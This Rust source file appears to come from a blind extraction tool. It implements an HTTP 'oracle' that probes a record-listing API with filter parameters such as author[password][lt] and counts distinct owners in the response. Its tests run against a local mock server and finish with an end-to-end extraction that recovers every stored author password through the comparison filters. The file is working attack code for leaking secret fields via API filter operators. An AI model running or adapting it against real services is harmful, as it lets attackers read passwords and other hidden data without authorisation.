//! HTTP count oracle over a record-listing endpoint
//!
//! Sends `GET <url>?<param>[<op>]=<probe>` and counts the distinct owners of
//! the records returned. Failures are logged and read as zero matches.

use crate::http::client::HttpClient;
use crate::http::request::HttpRequest;
use crate::http::response::HttpResponse;
use crate::oracle::{Operator, Oracle, OracleTarget};
use serde_json::Value;
use std::collections::HashSet;

pub struct PostsOracle {
    client: HttpClient,
    target: OracleTarget,
    retries: u32,
}

impl PostsOracle {
    pub fn new(client: HttpClient, target: OracleTarget, retries: u32) -> Self {
        Self {
            client,
            target,
            retries,
        }
    }

    fn parse(&self, resp: &HttpResponse) -> anyhow::Result<usize> {
        let body = resp.json().map_err(|e| {
            anyhow::anyhow!("HTTP {} with non-JSON body ({}): {}", resp.status, e, snippet(&resp.body_text()))
        })?;

        count_distinct_owners(&body, &self.target.records_key, &self.target.owner_key)
            .ok_or_else(|| anyhow::anyhow!("HTTP {} unexpected response structure: {}", resp.status, snippet(&body.to_string())))
    }
}

impl Oracle for PostsOracle {
    async fn count(&self, op: Operator, probe: &str) -> usize {
        let url = self.target.probe_url(op, probe);
        let mut attempt = 0;

        loop {
            match self.client.execute(HttpRequest::get_json(url.clone())).await {
                Ok(resp) => {
                    return match self.parse(&resp) {
                        Ok(count) => {
                            tracing::debug!(
                                "[ORACLE] {} {:?} => {} owners ({}ms)",
                                op,
                                probe,
                                count,
                                resp.elapsed_ms
                            );
                            count
                        }
                        Err(e) => {
                            tracing::warn!("[ORACLE] {} - counting as 0. URL: {}", e, url);
                            0
                        }
                    };
                }
                Err(e) if attempt < self.retries => {
                    attempt += 1;
                    tracing::warn!(
                        "[ORACLE] Request failed ({}), retry {}/{}",
                        e,
                        attempt,
                        self.retries
                    );
                }
                Err(e) => {
                    tracing::warn!("[ORACLE] Request failed: {} - counting as 0. URL: {}", e, url);
                    return 0;
                }
            }
        }
    }
}

/// Number of distinct owners among the records under `records_key`.
///
/// Returns `None` when the body does not hold an array there. Records without
/// the owner key are skipped.
pub fn count_distinct_owners(body: &Value, records_key: &str, owner_key: &str) -> Option<usize> {
    let records = body.get(records_key)?.as_array()?;

    let mut owners = HashSet::new();
    for record in records {
        match record.get(owner_key) {
            Some(owner) if !owner.is_null() => {
                owners.insert(owner.to_string());
            }
            _ => tracing::debug!("[ORACLE] Record without {}: {}", owner_key, record),
        }
    }

    Some(owners.len())
}

fn snippet(text: &str) -> String {
    text.chars().take(200).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::rate_limit::RateLimiter;
    use crate::extract::{ExtractionConfig, Extractor};
    use axum::extract::{Query, State};
    use axum::routing::get;
    use axum::{Json, Router};
    use serde_json::json;
    use std::collections::HashMap;
    use std::sync::Arc;
    use std::time::Duration;
    use url::Url;

    struct Author {
        id: u64,
        password: &'static str,
        posts: usize,
    }

    async fn list_posts(
        State(authors): State<Arc<Vec<Author>>>,
        Query(params): Query<HashMap<String, String>>,
    ) -> Json<Value> {
        let mut posts = Vec::new();
        for author in authors.iter() {
            let matches = params.iter().all(|(key, value)| match key.as_str() {
                "author[password][lt]" => author.password < value.as_str(),
                "author[password][equals]" => author.password == value.as_str(),
                "author[password][gte]" => author.password >= value.as_str(),
                _ => true,
            });
            if matches {
                for n in 0..author.posts {
                    posts.push(json!({
                        "id": format!("{}-{}", author.id, n),
                        "title": "hello",
                        "authorId": author.id,
                    }));
                }
            }
        }
        Json(json!({ "posts": posts }))
    }

    async fn serve(authors: Vec<Author>) -> Url {
        let app = Router::new()
            .route("/api/posts", get(list_posts))
            .route("/api/broken", get(|| async { Json(json!({ "error": "invalid filter" })) }))
            .route("/api/html", get(|| async { "<html>maintenance</html>" }))
            .with_state(Arc::new(authors));

        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });

        Url::parse(&format!("http://{}/api/posts", addr)).unwrap()
    }

    fn oracle_for(url: Url) -> PostsOracle {
        let client = HttpClient::new(RateLimiter::new(0), Duration::from_secs(5)).unwrap();
        PostsOracle::new(client, OracleTarget::new(url), 0)
    }

    fn sample_authors() -> Vec<Author> {
        vec![
            Author { id: 1, password: "abc", posts: 3 },
            Author { id: 2, password: "abd", posts: 1 },
            Author { id: 3, password: "xyz", posts: 2 },
        ]
    }

    #[test]
    fn test_counts_each_owner_once() {
        let body = json!({
            "posts": [
                { "id": 1, "authorId": "u1" },
                { "id": 2, "authorId": "u1" },
                { "id": 3, "authorId": "u2" },
                { "id": 4, "authorId": "u1" },
            ]
        });
        assert_eq!(count_distinct_owners(&body, "posts", "authorId"), Some(2));
    }

    #[test]
    fn test_skips_records_without_owner() {
        let body = json!({ "posts": [{ "id": 1 }, { "id": 2, "authorId": null }, { "id": 3, "authorId": 7 }] });
        assert_eq!(count_distinct_owners(&body, "posts", "authorId"), Some(1));
    }

    #[test]
    fn test_rejects_unexpected_shape() {
        assert_eq!(count_distinct_owners(&json!({ "error": "x" }), "posts", "authorId"), None);
        assert_eq!(count_distinct_owners(&json!({ "posts": {} }), "posts", "authorId"), None);
        assert_eq!(count_distinct_owners(&json!([1, 2]), "posts", "authorId"), None);
    }

    #[tokio::test]
    async fn test_http_counts_distinct_authors() {
        let oracle = oracle_for(serve(sample_authors()).await);

        assert_eq!(oracle.count(Operator::LessThan, "a").await, 0);
        assert_eq!(oracle.count(Operator::LessThan, "abd").await, 1);
        assert_eq!(oracle.count(Operator::LessThan, "b").await, 2);
        assert_eq!(oracle.count(Operator::Equals, "xyz").await, 1);
        assert_eq!(oracle.count(Operator::GreaterOrEqual, "").await, 3);
    }

    #[tokio::test]
    async fn test_probe_with_reserved_characters() {
        let oracle = oracle_for(serve(vec![Author { id: 9, password: "a&b=c", posts: 1 }]).await);
        assert_eq!(oracle.count(Operator::Equals, "a&b=c").await, 1);
    }

    #[tokio::test]
    async fn test_malformed_response_counts_as_zero() {
        let base = serve(sample_authors()).await;

        let broken = oracle_for(base.join("/api/broken").unwrap());
        assert_eq!(broken.count(Operator::GreaterOrEqual, "").await, 0);

        let html = oracle_for(base.join("/api/html").unwrap());
        assert_eq!(html.count(Operator::GreaterOrEqual, "").await, 0);
    }

    #[tokio::test]
    async fn test_transport_failure_counts_as_zero() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);

        let client = HttpClient::new(RateLimiter::new(0), Duration::from_secs(2)).unwrap();
        let url = Url::parse(&format!("http://{}/api/posts", addr)).unwrap();
        let oracle = PostsOracle::new(client, OracleTarget::new(url), 1);

        assert_eq!(oracle.count(Operator::LessThan, "a").await, 0);
    }

    #[tokio::test]
    async fn test_full_extraction_over_http() {
        let oracle = oracle_for(serve(sample_authors()).await);
        let config = ExtractionConfig::new(crate::extract::Alphabet::new("abcdefghijklmnopqrstuvwxyz").unwrap());
        let mut extractor = Extractor::new(oracle, config);

        let secrets = extractor.discover_all().await.unwrap();
        assert_eq!(secrets, vec!["abc", "abd", "xyz"]);
    }
}
